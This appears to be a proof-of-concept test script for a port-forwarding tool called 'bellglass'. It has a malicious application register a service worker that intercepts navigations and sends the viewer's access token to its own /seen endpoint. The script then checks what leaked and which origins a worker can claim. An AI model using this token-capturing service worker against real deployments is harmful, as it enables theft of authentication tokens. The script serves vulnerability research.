"""The application of a private port registers a service worker. Later the viewer opens the address with the token again, as `bellglass forward --url`
writes it. The worker sees that navigation before the server does."""
import time
from common import *
sw = "/r?d=" + quote(json.dumps({"headers": [["content-type", "text/javascript"], ["service-worker-allowed", "/"], NOSTORE], "body": "self.addEventListener('install', e => self.skipWaiting()); self.addEventListener('activate', e => e.waitUntil(clients.claim())); self.addEventListener('fetch', e => { if (e.request.mode == 'navigate') e.waitUntil(fetch('/seen?url=' + encodeURIComponent(e.request.url))) })"}))
with browser() as c:
    v = c.new_page(); v.goto(login("EVIL")); v.goto(origin("EVIL") + page())
    print("registered:", v.evaluate(f"navigator.serviceWorker.register({json.dumps(sw)}, {{scope: '/'}}).then(async x => {{ await navigator.serviceWorker.ready; return x.scope }}).catch(x => 'refused ' + x)"))
    time.sleep(1); v.close()
    n = c.new_page(); n.goto(login("EVIL", path="/later")); time.sleep(1)
    print("the viewer's address afterwards:", n.evaluate("location.pathname + location.search"))
    print("page's own view: navigation entry", n.evaluate("performance.getEntriesByType('navigation')[0].name.includes('bellglass_token')"), "navigation.entries", n.evaluate("navigation.entries().some(x => x.url.includes('bellglass_token'))"), "referrer", n.evaluate("document.referrer.includes('bellglass_token')"), "resource entries", n.evaluate("performance.getEntries().some(x => x.name.includes('bellglass_token'))"))
    other = c.new_page(); other.goto(origin("EVIL", 9000) + "/"); 
    print("worker of :8000 over :9000, or the API:", other.evaluate("!!navigator.serviceWorker?.controller"))
    for target in (origin("VICTIM"), API):
        print("register a worker for", "victim" if "VICTIM" in target or E["VICTIM_ID"] in target else "the API", ":", n.evaluate(f"navigator.serviceWorker.register({json.dumps(target + '/sw.js')}).then(x => 'registered').catch(x => 'refused ' + x.name)"))
seen = [q["p"] for q in json.loads(inside("EVIL", "/log")[2]) if q["p"].startswith("/seen")]
print("what the application was told:", [s.replace(E["EVIL_TOKEN"], "<TOKEN>") for s in seen])
print("its own token among it:", any(E["EVIL_TOKEN"] in s for s in seen))
